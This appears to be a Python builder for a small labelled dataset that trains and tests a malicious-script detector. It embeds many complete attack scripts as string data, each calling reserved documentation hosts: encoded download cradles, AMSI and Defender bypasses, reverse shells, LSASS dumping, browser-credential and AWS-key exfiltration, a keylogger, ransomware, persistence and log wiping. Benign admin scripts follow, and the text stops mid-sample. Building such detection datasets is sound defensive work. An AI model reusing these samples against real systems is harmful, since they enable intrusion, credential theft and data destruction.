#!/usr/bin/env python3
"""Build data/tiny/scripts.jsonl, the small labelled dataset that `sgpipe all`, the tests and CI run on by default.

Every script below was written for sgpipe; none comes from a malware collection or another dataset. Malicious scripts
have the shape of real ones but are defanged: they name only reserved hosts (example.com/.net/.org) and documentation
IP ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and carry no working payload. They are data: nothing here
is ever run, and this file only writes their text.

Planted cases that the pipeline's checks must find (see data/README.md):
  - near-duplicates: pairs whose second script is a light edit of the first, same label;
  - exact duplicates: the same text again, differing only in line ends or trailing blanks;
  - one label conflict: a one-line edit that turns a benign script malicious.

Run `python data/tiny/build_tiny.py` from anywhere: it rewrites scripts.jsonl byte for byte (fixed shuffle seed),
checks the planted properties and prints the figures quoted in data/README.md.
"""
from __future__ import annotations

import base64
import itertools
import json
import random
import re
import sys
from collections import Counter
from pathlib import Path

# Reuse the project's own normalisation so "exact duplicate" here means what ingest means by it.
sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from pipeline.run.records import LABELS, atomic_write, normalise

sys.path.insert(0, str(Path(__file__).resolve().parent))
import families  # noqa: E402  (data/tiny/families.py: the templated families)

OUT = Path(__file__).with_name("scripts.jsonl")  # everything: the demo's data (configs/tiny.yaml)
SMALL = Path(__file__).with_name("small.jsonl")  # the hand-written scripts only: what the test suite reads
VARIANTS_PER_FAMILY = 5  # drawings of each family (families.plans())
FAMILY_SEED = 11  # the drawings' seed
MAX_SIBLING_J = 0.75  # a drawing this close to a kept sibling is redrawn: well under dedup's 0.85
COMMENT = re.compile(r"^\s*(#(?!!)|//|REM |')", re.MULTILINE | re.IGNORECASE)  # a comment line, for the figures
NEAR_DUP_MIN = 0.85  # 5-gram shingle Jaccard at or above which two scripts count as near-duplicates
SHUFFLE_SEED = 7  # mixes languages and labels so any prefix of the file has both labels

PS, JS, PY, SH, BAT, VBS = "powershell", "javascript", "python", "bash", "batch", "vbscript"
M, B = "malicious", "benign"

SCRIPTS: dict[str, dict] = {}  # short name -> {"lang", "label", "text", "group"}, in insertion order
PLANTED: list[tuple[str, str, str]] = []  # (first, second, kind) with kind near-dup | exact-dup | label-conflict


def add(name: str, lang: str, label: str, text: str, group: str | None = None) -> None:
    assert name not in SCRIPTS, f"script name {name!r} used twice"
    assert label in LABELS, f"{name}: label {label!r} not in {LABELS}"
    SCRIPTS[name] = {"lang": lang, "label": label, "text": text.strip("\n") + "\n", "group": group}


def edit(base: str, name: str, old: str, new: str, label: str | None = None, kind: str = "near-dup") -> None:
    """Plant a copy of `base` in which every `old` becomes `new` (one edited value, or all uses of a renamed name)."""
    src = SCRIPTS[base]
    assert old in src["text"], f"{name}: {old!r} does not occur in {base}"
    add(name, src["lang"], label or src["label"], src["text"].replace(old, new), src["group"])
    PLANTED.append((base, name, kind))


def exact_dup(base: str, name: str, crlf: bool = False, trailing: str = "") -> None:
    """Plant the text of `base` again, with CRLF line ends and/or blanks at line ends (as copies pick up)."""
    src = SCRIPTS[base]
    text = "\n".join(line + trailing if line else line for line in src["text"].split("\n"))
    add(name, src["lang"], src["label"], text.replace("\n", "\r\n") if crlf else text, src["group"])
    PLANTED.append((base, name, "exact-dup"))


def ps_enc(command: str) -> str:
    """What `powershell -EncodedCommand` takes: base64 of the UTF-16LE command text."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def xor_b64(text: str, key: int) -> str:
    return base64.b64encode(bytes(b ^ key for b in text.encode())).decode()


# ---------------------------------------------------------------- PowerShell, malicious
add("ps-enc-oneliner", PS, M, "powershell.exe -nop -w hidden -enc "
    + ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.15/a')"))

add("ps-iwr-oneliner", PS, M, r'''
powershell -w 1 -c "iwr http://192.0.2.60/x.ps1 -useb | iex"
''')

add("ps-cradle-proxy", PS, M, r'''
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$wc = New-Object System.Net.WebClient
$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
IEX ($wc.DownloadString('http://cdn.example.net/stage2.ps1'))
''')

add("ps-run-key-persist", PS, M, r'''
# keep the sync client alive across reboots
$dir  = Join-Path $env:APPDATA 'Microsoft\OneDriveSync'
$dest = Join-Path $dir 'OneDriveSync.exe'
New-Item -ItemType Directory -Path $dir -Force | Out-Null
Invoke-WebRequest -Uri 'http://203.0.113.21/odsync.bin' -OutFile $dest -UseBasicParsing
(Get-Item $dir -Force).Attributes = 'Hidden,System'

# HKCU needs no elevation
$run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'OneDriveSync' -Value "`"$dest`" /background"
Start-Process -FilePath $dest -ArgumentList '/background' -WindowStyle Hidden
''')

add("ps-schtask-persist", PS, M, r'''
$cmd = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.77/beacon.ps1')"
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
$action  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -EncodedCommand $enc"
$trigger = New-ScheduledTaskTrigger -AtLogOn
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $action -Trigger $trigger -Settings $settings -Force | Out-Null
''')

add("ps-amsi-cradle", PS, M, r'''
$a = [Ref].Assembly.GetType('System.Management.Automation.' + 'Am' + 'siUtils')
$f = $a.GetField('am' + 'siInit' + 'Failed', 'NonPublic,Static')
$f.SetValue($null, $false)
$r = Invoke-WebRequest -UseBasicParsing -Uri 'https://203.0.113.14/p.txt'
IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.Content)))
''')

add("ps-defender-off", PS, M, r'''
# needs admin
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0
Add-MpPreference -ExclusionPath 'C:\ProgramData\svc', "$env:TEMP"
Add-MpPreference -ExclusionExtension 'ps1', 'exe'
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Force | Out-Null
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -Type DWord
Stop-Service -Name WinDefend -Force -ErrorAction SilentlyContinue
''')

add("ps-tcp-revshell", PS, M, r'''
$client = New-Object System.Net.Sockets.TCPClient('203.0.113.50', 443)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $out = (Invoke-Expression $data 2>&1 | Out-String)
    $prompt = $out + 'PS ' + (Get-Location).Path + '> '
    $buf = ([Text.Encoding]::ASCII).GetBytes($prompt)
    $stream.Write($buf, 0, $buf.Length)
    $stream.Flush()
}
$client.Close()
''')

add("ps-fake-cred-prompt", PS, M, r'''
$user = "$env:USERDOMAIN\$env:USERNAME"
while ($true) {
    $cred = $Host.UI.PromptForCredential('Windows Security', 'Your session has expired. Please re-enter your password.', $user, '')
    if (-not $cred) { continue }
    $pw = $cred.GetNetworkCredential().Password
    # only stop asking once the domain accepts the password
    $de = New-Object System.DirectoryServices.DirectoryEntry('', $cred.UserName, $pw)
    if ($de.name) { break }
}
$body = @{ u = $cred.UserName; p = $pw; h = $env:COMPUTERNAME } | ConvertTo-Json
Invoke-RestMethod -Uri 'https://login-check.example.net/api/v1/s' -Method Post -Body $body -ContentType 'application/json'
''')

add("ps-aes-ransom", PS, M, r'''
$target = 'C:\lab\victim-share'
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.KeySize = 256
$aes.GenerateKey()
$exts = '*.docx', '*.xlsx', '*.pdf', '*.jpg', '*.sql', '*.bak'
Get-ChildItem -Path $target -Recurse -Include $exts -File -ErrorAction SilentlyContinue | ForEach-Object {
    $aes.GenerateIV()
    $plain = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.locked', $aes.IV + $enc)
    Remove-Item $_.FullName -Force
}
$keyB64 = [Convert]::ToBase64String($aes.Key)
Invoke-WebRequest -Uri "http://192.0.2.200/k?id=$env:COMPUTERNAME" -Method Post -Body $keyB64 -UseBasicParsing | Out-Null
$note = "Your files have been encrypted.`r`nContact recover@example.org with ID $env:COMPUTERNAME"
Set-Content -Path (Join-Path $target 'README_RESTORE.txt') -Value $note
''')

add("ps-http-exfil", PS, M, r'''
$stage = Join-Path $env:TEMP ('{0}.zip' -f [guid]::NewGuid())
$src = @("$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop")
Compress-Archive -Path $src -DestinationPath $stage -CompressionLevel Optimal -ErrorAction SilentlyContinue
$bytes = [IO.File]::ReadAllBytes($stage)
$chunk = 512KB
for ($off = 0; $off -lt $bytes.Length; $off += $chunk) {
    $len = [Math]::Min($chunk, $bytes.Length - $off)
    $part = [Convert]::ToBase64String($bytes, $off, $len)
    Invoke-RestMethod -Uri 'https://sync.example.net/upload' -Method Post -Body @{ h = $env:COMPUTERNAME; o = $off; d = $part } | Out-Null
    Start-Sleep -Milliseconds (Get-Random -Minimum 200 -Maximum 1500)
}
Remove-Item $stage -Force
''')

add("ps-dns-exfil", PS, M, r'''
$data = Get-Content "$env:USERPROFILE\.aws\credentials" -Raw
$hex = -join ([Text.Encoding]::UTF8.GetBytes($data) | ForEach-Object { $_.ToString('x2') })
$id = Get-Random -Maximum 99999
for ($i = 0; $i -lt $hex.Length; $i += 60) {
    $piece = $hex.Substring($i, [Math]::Min(60, $hex.Length - $i))
    Resolve-DnsName -Name "$piece.$i.$id.t.example.net" -Type A -DnsOnly -ErrorAction SilentlyContinue | Out-Null
}
''')

add("ps-wmi-subscription", PS, M, r'''
$filterArgs = @{
    Name           = 'SCMEventFilter'
    EventNameSpace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
}
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments $filterArgs
$consumerArgs = @{
    Name                = 'SCMEventConsumer'
    CommandLineTemplate = "powershell.exe -nop -w hidden -c `"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.61/u')`""
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments $consumerArgs
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
''')

add("ps-lsass-minidump", PS, M, r'''
$p = Get-Process lsass
$out = "C:\Windows\Temp\dbg_$($p.Id).tmp"
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id $out full
Start-Sleep 5
Compress-Archive $out "$out.zip" -Force
$wc = New-Object Net.WebClient
$wc.UploadFile('https://files.example.org/u.php', "$out.zip") | Out-Null
Remove-Item $out, "$out.zip" -Force
''')

add("ps-bits-dropper", PS, M, r'''
$tmp = "$env:LOCALAPPDATA\Temp\msupd"
mkdir $tmp -Force | Out-Null
Start-BitsTransfer -Source 'http://files.example.org/invoice_viewer.exe' -Destination "$tmp\svchost.exe" -Priority Foreground
Unblock-File "$tmp\svchost.exe"
Start-Process "$tmp\svchost.exe" -ArgumentList '-k netsvcs' -WindowStyle Hidden
''')

add("ps-clear-tracks", PS, M, r'''
wevtutil el | ForEach-Object { wevtutil cl "$_" 2>$null }
Remove-Item (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
Clear-History
Remove-Item "$env:APPDATA\Microsoft\Windows\Recent\*" -Recurse -Force -ErrorAction SilentlyContinue
fsutil usn deletejournal /D C:
''')

add("ps-reflective-load", PS, M, r'''
# pull the loader straight into memory, nothing touches disk
$url = 'https://cdn.example.com/assets/lib/update.dll'
$raw = (New-Object System.Net.WebClient).DownloadData($url)
$asm = [System.Reflection.Assembly]::Load($raw)
$entry = $asm.EntryPoint
if ($entry) {
    $entry.Invoke($null, (, [string[]] @('--silent', '198.51.100.12:8443')))
} else {
    [Agent.Loader]::Run('198.51.100.12', 8443)
}
''')

add("ps-keylogger", PS, M, r'''
$sig = @'
[DllImport("user32.dll", CharSet=CharSet.Auto, ExactSpelling=true)]
public static extern short GetAsyncKeyState(int virtualKeyCode);
'@
$api = Add-Type -MemberDefinition $sig -Name 'Win32' -Namespace API -PassThru
$log = "$env:APPDATA\Microsoft\Crypto\RSA\k.dat"
$last = Get-Date
while ($true) {
    Start-Sleep -Milliseconds 40
    for ($code = 8; $code -le 254; $code++) {
        if ($api::GetAsyncKeyState($code) -eq -32767) {
            [IO.File]::AppendAllText($log, [char]$code)
        }
    }
    # ship the buffer every ten minutes
    if (((Get-Date) - $last).TotalMinutes -ge 10) {
        Invoke-RestMethod -Uri 'http://203.0.113.33/k' -Method Post -Body (Get-Content $log -Raw) | Out-Null
        Clear-Content $log
        $last = Get-Date
    }
}
''')

add("ps-browser-loot", PS, M, r'''
$stage = "$env:TEMP\cache_$(Get-Random)"
New-Item -ItemType Directory $stage | Out-Null
$profiles = @{
    chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
    edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
}
foreach ($name in $profiles.Keys) {
    $base = $profiles[$name]
    if (-not (Test-Path $base)) { continue }
    Copy-Item "$base\Local State" "$stage\$name-localstate" -ErrorAction SilentlyContinue
    Copy-Item "$base\Default\Login Data" "$stage\$name-logins" -ErrorAction SilentlyContinue
    Copy-Item "$base\Default\Network\Cookies" "$stage\$name-cookies" -ErrorAction SilentlyContinue
}
Compress-Archive "$stage\*" "$stage.zip"
Invoke-WebRequest -Uri 'https://203.0.113.120/gate.php' -Method Post -InFile "$stage.zip" -ContentType 'application/zip' -UseBasicParsing | Out-Null
Remove-Item $stage, "$stage.zip" -Recurse -Force
''')

# ---------------------------------------------------------------- PowerShell, benign
add("ps-agent-install", PS, B, r'''
$ErrorActionPreference = 'Stop'
$version  = '4.2.1'
$url      = "https://downloads.example.com/agent/$version/MonitoringAgent-x64.msi"
$expected = 'FB9954A1E42C867E60CAF071C14426679FC3AA2E324E5E0B6572D660F3ACDB95'
$msi      = Join-Path $env:TEMP "MonitoringAgent-$version.msi"

Write-Host "Downloading monitoring agent $version"
Invoke-WebRequest -Uri $url -OutFile $msi -UseBasicParsing

$actual = (Get-FileHash -Path $msi -Algorithm SHA256).Hash
if ($actual -ne $expected) {
    Remove-Item $msi -Force
    throw "Checksum mismatch for $msi (expected $expected, got $actual)"
}

$log = Join-Path $env:TEMP "MonitoringAgent-$version-install.log"
$proc = Start-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn /norestart /l*v `"$log`" SERVER=monitor.example.com" -Wait -PassThru
if ($proc.ExitCode -notin 0, 3010) {
    throw "msiexec failed with exit code $($proc.ExitCode), see $log"
}
Write-Host 'Agent installed.'
''')

add("ps-disk-report", PS, B, r'''
$threshold = 15
Get-CimInstance -ClassName Win32_LogicalDisk -Filter 'DriveType=3' |
    Select-Object DeviceID,
        @{n='SizeGB'; e={[math]::Round($_.Size / 1GB, 1)}},
        @{n='FreeGB'; e={[math]::Round($_.FreeSpace / 1GB, 1)}},
        @{n='FreePct'; e={[math]::Round(100 * $_.FreeSpace / $_.Size, 1)}} |
    ForEach-Object {
        if ($_.FreePct -lt $threshold) { Write-Warning "$($_.DeviceID) is at $($_.FreePct)% free" }
        $_
    } |
    Export-Csv -Path "C:\Reports\disk-$(Get-Date -Format yyyyMMdd).csv" -NoTypeInformation
''')

add("ps-iis-log-rotate", PS, B, r'''
<#
.SYNOPSIS
    Compresses IIS logs older than a week and deletes archives older than 90 days.
#>
param(
    [string]$LogRoot = 'C:\inetpub\logs\LogFiles',
    [int]$CompressAfterDays = 7,
    [int]$KeepArchiveDays = 90
)

$now = Get-Date
Get-ChildItem -Path $LogRoot -Filter *.log -Recurse |
    Where-Object { $_.LastWriteTime -lt $now.AddDays(-$CompressAfterDays) } |
    ForEach-Object {
        $zip = "$($_.FullName).zip"
        Compress-Archive -Path $_.FullName -DestinationPath $zip -Force
        Remove-Item $_.FullName
    }

Get-ChildItem -Path $LogRoot -Filter *.zip -Recurse |
    Where-Object { $_.LastWriteTime -lt $now.AddDays(-$KeepArchiveDays) } |
    Remove-Item -Verbose
''')

add("ps-robocopy-backup", PS, B, r'''
$source = 'D:\Projects'
$dest   = '\\192.0.2.40\backup\projects'
$log    = "C:\Logs\robocopy-projects-$(Get-Date -Format 'yyyy-MM-dd').log"

robocopy $source $dest /MIR /Z /R:2 /W:10 /NP /FFT /XD node_modules .git bin obj /LOG:$log
$rc = $LASTEXITCODE

# robocopy exit codes below 8 mean success (with or without copied files)
if ($rc -ge 8) {
    Send-MailMessage -To 'it-ops@example.com' -From 'backup@example.com' -Subject "Backup failed ($rc) on $env:COMPUTERNAME" -Body (Get-Content $log -Tail 40 | Out-String) -SmtpServer 'smtp.example.com'
    exit 1
}
exit 0
''')

add("ps-kiosk-registry", PS, B, r'''
# Baseline settings applied to new kiosk machines
$edge = 'HKLM:\SOFTWARE\Policies\Microsoft\Edge'
New-Item -Path $edge -Force | Out-Null
Set-ItemProperty -Path $edge -Name HomepageLocation -Value 'https://intranet.example.com'
Set-ItemProperty -Path $edge -Name HideFirstRunExperience -Value 1 -Type DWord
Set-ItemProperty -Path $edge -Name PasswordManagerEnabled -Value 0 -Type DWord

$rdp = 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp'
Set-ItemProperty -Path $rdp -Name UserAuthentication -Value 1 -Type DWord

$run = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'KioskShell' -Value '"C:\Program Files\Kiosk\KioskShell.exe" --fullscreen'
Set-TimeZone -Id 'W. Europe Standard Time'
''')

add("ps-ad-inactive-users", PS, B, r'''
Import-Module ActiveDirectory
$cutoff = (Get-Date).AddDays(-90)
Get-ADUser -Filter { Enabled -eq $true -and LastLogonDate -lt $cutoff } -Properties LastLogonDate, Department, Manager -SearchBase 'OU=Staff,DC=corp,DC=example,DC=com' |
    Sort-Object LastLogonDate |
    Select-Object SamAccountName, Name, Department, LastLogonDate, @{n='Manager'; e={ (Get-ADUser $_.Manager).Name }} |
    Export-Csv -Path .\inactive-users.csv -NoTypeInformation -Encoding UTF8
''')

add("ps-service-watchdog", PS, B, r'''
$services = 'Spooler', 'W3SVC', 'MSSQL$REPORTING'
foreach ($name in $services) {
    $svc = Get-Service -Name $name -ErrorAction SilentlyContinue
    if ($null -eq $svc) {
        Write-EventLog -LogName Application -Source 'OpsWatchdog' -EventId 1001 -EntryType Warning -Message "Service $name not found"
        continue
    }
    if ($svc.Status -ne 'Running') {
        Start-Service -Name $name
        Write-EventLog -LogName Application -Source 'OpsWatchdog' -EventId 1000 -EntryType Information -Message "Restarted $name (was $($svc.Status))"
    }
}
''')

add("ps-appsettings-b64", PS, B, r'''
# App Service only takes flat strings, so the JSON settings blob goes in as base64.
$settings = [ordered]@{
    featureFlags = @{ newCheckout = $true; darkMode = $false }
    apiBase      = 'https://api.example.com/v2'
    timeoutMs    = 15000
}
$json = $settings | ConvertTo-Json -Depth 5 -Compress
$blob = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($json))
az webapp config appsettings set --resource-group rg-shop-prod --name shop-web-prod --settings "APP_CONFIG_B64=$blob" | Out-Null
Write-Host "Uploaded $($json.Length) bytes of settings"
''')

add("ps-cert-expiry", PS, B, r'''
$days = 30
$limit = (Get-Date).AddDays($days)
$expiring = Get-ChildItem Cert:\LocalMachine\My |
    Where-Object { $_.NotAfter -lt $limit } |
    Select-Object Subject, Thumbprint, NotAfter

if ($expiring) {
    $body = $expiring | Format-Table -AutoSize | Out-String
    Send-MailMessage -SmtpServer smtp.example.com -From certs@example.com -To pki-team@example.com `
        -Subject "$($expiring.Count) certificate(s) on $env:COMPUTERNAME expire within $days days" -Body $body
}
''')

add("ps-running-services", PS, B, r'''
Get-Service | Where-Object Status -eq 'Running' | Select-Object Name, DisplayName, StartType | Export-Csv -Path running-services.csv -NoTypeInformation
''')

add("ps-dotnet-build", PS, B, r'''
param([string]$Configuration = 'Release')
$ErrorActionPreference = 'Stop'
Push-Location $PSScriptRoot
try {
    dotnet restore .\src\Inventory.sln
    if ($LASTEXITCODE) { throw 'restore failed' }
    dotnet build .\src\Inventory.sln -c $Configuration --no-restore
    if ($LASTEXITCODE) { throw 'build failed' }
    dotnet test .\tests\Inventory.Tests\Inventory.Tests.csproj -c $Configuration --no-build --logger 'trx;LogFileName=results.trx'
    if ($LASTEXITCODE) { throw 'tests failed' }
    dotnet publish .\src\Inventory.Api\Inventory.Api.csproj -c $Configuration -o .\artifacts\api --no-build
}
finally {
    Pop-Location
}
''')

add("ps-pester-convert-size", PS, B, r'''
BeforeAll {
    . $PSScriptRoot/../src/Convert-Size.ps1
}

Describe 'Convert-Size' {
    It 'formats bytes below a kilobyte as bytes' {
        Convert-Size -Bytes 512 | Should -Be '512 B'
    }
    It 'rounds megabytes to one decimal' {
        Convert-Size -Bytes 1572864 | Should -Be '1.5 MB'
    }
    It 'rejects negative input' {
        { Convert-Size -Bytes -1 } | Should -Throw
    }
}
''')

add("ps-inventory-json", PS, B, r'''
$cs   = Get-CimInstance Win32_ComputerSystem
$os   = Get-CimInstance Win32_OperatingSystem
$bios = Get-CimInstance Win32_BIOS
$nics = Get-CimInstance Win32_NetworkAdapterConfiguration -Filter 'IPEnabled=True'

[pscustomobject]@{
    Hostname     = $env:COMPUTERNAME
    Manufacturer = $cs.Manufacturer
    Model        = $cs.Model
    MemoryGB     = [math]::Round($cs.TotalPhysicalMemory / 1GB)
    OS           = $os.Caption
    Build        = $os.BuildNumber
    LastBoot     = $os.LastBootUpTime
    Serial       = $bios.SerialNumber
    IPs          = @($nics | ForEach-Object { $_.IPAddress } | Where-Object { $_ -notmatch ':' })
} | ConvertTo-Json | Set-Content -Path "\\fs01\inventory$\$env:COMPUTERNAME.json" -Encoding UTF8
''', group="fleet-inventory")

add("ps-schtask-sql-backup", PS, B, r'''
$script = 'C:\Ops\Scripts\Backup-SqlDatabases.ps1'
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -ExecutionPolicy Bypass -File `"$script`""
$trigger = New-ScheduledTaskTrigger -Daily -At 1:30am
$principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
$settings = New-ScheduledTaskSettingsSet -ExecutionTimeLimit (New-TimeSpan -Hours 3) -StartWhenAvailable
Register-ScheduledTask -TaskName 'Ops\Nightly SQL Backup' -Action $action -Trigger $trigger -Principal $principal -Settings $settings -Description 'Full backups of user databases to \\nas01\sql' -Force
''')

add("ps-winget-devbox", PS, B, r'''
$packages = @(
    'Git.Git'
    'Microsoft.VisualStudioCode'
    'Python.Python.3.12'
    'OpenJS.NodeJS.LTS'
    'Docker.DockerDesktop'
    'Microsoft.PowerShell'
)
foreach ($id in $packages) {
    Write-Host "==> $id"
    winget install --id $id --exact --silent --accept-package-agreements --accept-source-agreements
}
git config --global init.defaultBranch main
git config --global core.autocrlf input
''')

add("ps-expenses-by-dept", PS, B, r'''
Import-Csv .\expenses.csv |
    Group-Object Department |
    ForEach-Object {
        [pscustomobject]@{
            Department = $_.Name
            Items      = $_.Count
            Total      = ($_.Group | Measure-Object -Property Amount -Sum).Sum
        }
    } |
    Sort-Object Total -Descending |
    Export-Csv .\expenses-by-department.csv -NoTypeInformation
''')

add("ps-firewall-api", PS, B, r'''
New-NetFirewallRule -DisplayName 'Contoso API (HTTPS 8443)' -Direction Inbound -Protocol TCP -LocalPort 8443 -Action Allow -Profile Domain
New-NetFirewallRule -DisplayName 'Contoso API health probe' -Direction Inbound -Protocol TCP -LocalPort 8081 -RemoteAddress 198.51.100.0/24 -Action Allow
Get-NetFirewallRule -DisplayName 'Contoso API*' | Format-Table DisplayName, Enabled, Direction, Action
''')

add("ps-temp-cleanup", PS, B, r'''
[CmdletBinding(SupportsShouldProcess)]
param(
    [int]$OlderThanDays = 14
)
$paths = @($env:TEMP, 'C:\Windows\Temp', 'C:\ProgramData\AppCache\tmp')
$cutoff = (Get-Date).AddDays(-$OlderThanDays)
$freed = 0
foreach ($p in $paths) {
    Get-ChildItem -Path $p -Recurse -File -ErrorAction SilentlyContinue |
        Where-Object LastWriteTime -lt $cutoff |
        ForEach-Object {
            if ($PSCmdlet.ShouldProcess($_.FullName, 'Remove')) {
                $freed += $_.Length
                Remove-Item $_.FullName -Force -ErrorAction SilentlyContinue
            }
        }
}
'{0:N1} MB freed' -f ($freed / 1MB)
''')

add("ps-get-largefile", PS, B, r'''
function Get-LargeFile {
    [CmdletBinding()]
    param(
        [Parameter(Mandatory)][ValidateScript({ Test-Path $_ -PathType Container })][string]$Path,
        [ValidateRange(1, 1000)][int]$Top = 20,
        [long]$MinSize = 100MB
    )
    Get-ChildItem -LiteralPath $Path -Recurse -File -ErrorAction SilentlyContinue |
        Where-Object Length -ge $MinSize |
        Sort-Object Length -Descending |
        Select-Object -First $Top FullName, @{ n = 'SizeMB'; e = { [math]::Round($_.Length / 1MB, 1) } }, LastWriteTime
}
Export-ModuleMember -Function Get-LargeFile
''')

add("ps-hyperv-lab-vm", PS, B, r'''
$vmName = 'lab-dc01'
$vhd = "D:\Hyper-V\$vmName.vhdx"
New-VM -Name $vmName -MemoryStartupBytes 4GB -Generation 2 -NewVHDPath $vhd -NewVHDSizeBytes 60GB -SwitchName 'LabSwitch'
Set-VMProcessor -VMName $vmName -Count 2
Add-VMDvdDrive -VMName $vmName -Path 'D:\ISO\WindowsServer2022.iso'
Set-VMFirmware -VMName $vmName -FirstBootDevice (Get-VMDvdDrive -VMName $vmName)
Start-VM -Name $vmName
''')

add("ps-defender-weekly", PS, B, r'''
# Weekly hygiene: refresh signatures, quick scan, report anything found in the last 7 days.
Update-MpSignature -UpdateSource MicrosoftUpdateServer
Start-MpScan -ScanType QuickScan
$since = (Get-Date).AddDays(-7)
$hits = Get-MpThreatDetection | Where-Object InitialDetectionTime -gt $since
$status = Get-MpComputerStatus
[pscustomobject]@{
    Computer          = $env:COMPUTERNAME
    RealTimeProtected = $status.RealTimeProtectionEnabled
    SignatureAge      = $status.AntivirusSignatureAge
    Detections        = @($hits).Count
} | Export-Csv '\\fs01\secops$\defender-weekly.csv' -Append -NoTypeInformation
''')

add("ps-sccm-launch", PS, B, r'''
powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "\\sccm01\Sources\Apps\NotepadPlusPlus\Install-NotepadPlusPlus.ps1" -Silent
''')

add("ps-iis-site", PS, B, r'''
Import-Module WebAdministration
$site = 'intranet'
$root = "C:\inetpub\$site"
New-Item -ItemType Directory -Path $root -Force | Out-Null
New-WebAppPool -Name $site
Set-ItemProperty "IIS:\AppPools\$site" -Name managedRuntimeVersion -Value ''
New-Website -Name $site -PhysicalPath $root -ApplicationPool $site -Port 443 -Ssl -HostHeader 'intranet.example.com'
$cert = Get-ChildItem Cert:\LocalMachine\My | Where-Object Subject -like '*intranet.example.com*' | Select-Object -First 1
(Get-WebBinding -Name $site -Protocol https).AddSslCertificate($cert.Thumbprint, 'My')
''')

add("ps-verify-manifest", PS, B, r'''
param([string]$Folder = '.\release', [string]$Manifest = '.\release\SHA256SUMS.txt')
$bad = 0
foreach ($line in Get-Content $Manifest) {
    $hash, $name = $line -split '\s+', 2
    $file = Join-Path $Folder $name
    if (-not (Test-Path $file)) { Write-Warning "missing: $name"; $bad++; continue }
    if ((Get-FileHash $file -Algorithm SHA256).Hash -ne $hash.ToUpper()) { Write-Warning "hash mismatch: $name"; $bad++ }
}
if ($bad) { exit 1 } else { Write-Host 'all files verified' }
''')

add("ps-logon-drives", PS, B, r'''
$map = @{ 'H:' = "\\fs01\home$\$env:USERNAME"; 'S:' = '\\fs01\shared'; 'P:' = '\\fs02\projects' }
foreach ($drive in $map.Keys) {
    if (Test-Path $drive) { continue }
    New-PSDrive -Name $drive.TrimEnd(':') -PSProvider FileSystem -Root $map[$drive] -Persist -Scope Global | Out-Null
}
''', group="corp-logon")

# ---------------------------------------------------------------- Python, malicious
add("py-pty-revshell", PY, M, r'''
import os
import pty
import socket

HOST = "192.0.2.10"
PORT = 4444

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
''', group="op-4444")

add("py-exec-b64-oneliner", PY, M, "python3 -c \"import base64;exec(base64.b64decode('" + base64.b64encode(
    b"import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.10',4444));"
    b"[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])").decode() + "'))\"",
    group="op-4444")

add("py-socket-backdoor", PY, M, r'''
import socket
import subprocess
import os
import time

C2 = ("198.51.100.23", 8080)


def session(sock):
    sock.send(os.getcwd().encode() + b"> ")
    while True:
